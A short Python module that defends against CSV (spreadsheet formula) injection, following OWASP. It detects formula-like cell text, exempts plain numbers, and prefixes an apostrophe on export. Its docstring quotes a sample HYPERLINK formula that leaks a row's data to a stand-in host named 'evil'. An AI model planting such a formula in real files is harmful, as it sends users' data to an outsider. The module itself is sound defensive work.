"""Spreadsheet formulas in text (CSV injection, OWASP). Pure.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run
as a formula when a spreadsheet opens the file (``=HYPERLINK("http://evil/?"&A1, "click")``
leaks the row). A number such as ``-12.5`` or ``+8613800138000`` is not a formula.

Imports *refuse* such text in free-text columns (names, product, team, reason...) with the
line and column: an import is all-or-nothing with a full report anyway, no real name or
reason starts with ``=`` or ``@``, and storing it altered (with an apostrophe) would show the
apostrophe in every screen and API. Exports *neutralise* whatever text they write (OWASP:
prefix a single quote), since stored text may predate this rule or come from another path.
"""

from __future__ import annotations

import re

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d[\d,]*)?(\.\d+)?([eE][+-]?\d+)?")


def formula_like(text: str) -> bool:
    return text.startswith(_TRIGGERS) and not (any(c.isdigit() for c in text) and _NUMBER.fullmatch(text.strip()))


def neutralise(text: str) -> str:
    """``text`` as a spreadsheet shows it literally: a formula-like text gets a leading ``'``."""
    return "'" + text if formula_like(text) else text
